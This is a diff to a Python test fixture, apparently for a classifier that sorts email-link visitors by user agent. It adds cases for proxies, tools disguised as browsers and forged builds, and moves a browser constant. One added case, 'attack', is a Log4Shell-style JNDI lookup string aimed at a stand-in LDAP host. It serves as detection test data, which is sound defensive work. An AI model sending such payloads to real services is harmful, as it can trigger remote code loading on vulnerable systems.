@@ -12,6 +12,10 @@ WITH_VENDOR = {"proxy", "prefetch", "scanner"}
 KNOWN_WRONG: dict[str, str] = {}
 """Lines of the set that the rules get wrong, by user agent, with the reason for which we leave them so."""
 
+BROWSER = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
+)
+
 # What no line of the set shows, as its owners publish no networks or as it takes several hits.
 DIRECT = {
     "mail-proxy": {"user_agent": "ExampleMailProxy/1.0"},
@@ -20,11 +24,19 @@ DIRECT = {
     "cisco-network": {"ip": "203.0.113.1", "age": 1.0},
     "no-engine": {"user_agent": "Mozilla/5.0 (compatible; Example)"},
     "says-what-it-does": {"user_agent": "Example Detector 2"},
+    "hey-proxy": {"user_agent": "hey.com/imageproxy"},
+    "apple-app": {"user_agent": "Unheard/1.0 CFNetwork/1410.0.3 Darwin/22.6.0"},
+    "attack": {"user_agent": "${jndi:ldap://example.org/a}"},
+    "malformed": {"user_agent": "User-Agent: curl/8"},
+    "tool-behind-browser": {"user_agent": f"{BROWSER} Unheard/1.0"},
+    "tool-inside-brackets": {"user_agent": BROWSER.replace("Win64", "Datanyze")},
+    "tool-before-browser": {"user_agent": f"Unheard/1.0 {BROWSER}"},
+    "glued-tool": {"user_agent": f"{BROWSER} AnyProbe/1"},
+    "no-engine-named": {"user_agent": "Mozilla/5.0 Unheard"},
+    "no-browser-no-mail-program": {"user_agent": "Unheard/1.0"},
+    "forged-build": {"user_agent": BROWSER.replace(".0.0.0", ".0.6261.94"), "signs": ["no-language"]},
     "many-recipients": {"signs": ["burst"], "age": 1.0},
 }
-BROWSER = (
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
-)
 
 
 def judged(judge, line):
